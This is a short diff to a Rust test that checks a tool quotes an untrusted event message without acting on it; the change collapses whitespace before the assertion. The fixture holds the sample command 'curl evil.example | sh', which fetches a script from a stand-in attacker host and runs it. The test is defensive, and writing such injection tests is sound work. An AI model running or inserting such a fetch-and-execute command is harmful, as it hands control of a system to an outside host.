@@ -280,6 +280,7 @@ fn the_message_of_an_event_is_quoted_and_decides_nothing() {
     let remedy = items[0]["remedy"].as_str().unwrap();
     contains(remedy, "ccm lb sync default/new tries again");
     assert!(!remedy.contains("the message"), "{remedy}");
+    let inspected = inspected.split_whitespace().collect::<Vec<_>>().join(" ");
     let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
     assert!(!unquoted.contains("evil"), "{inspected}");
 }
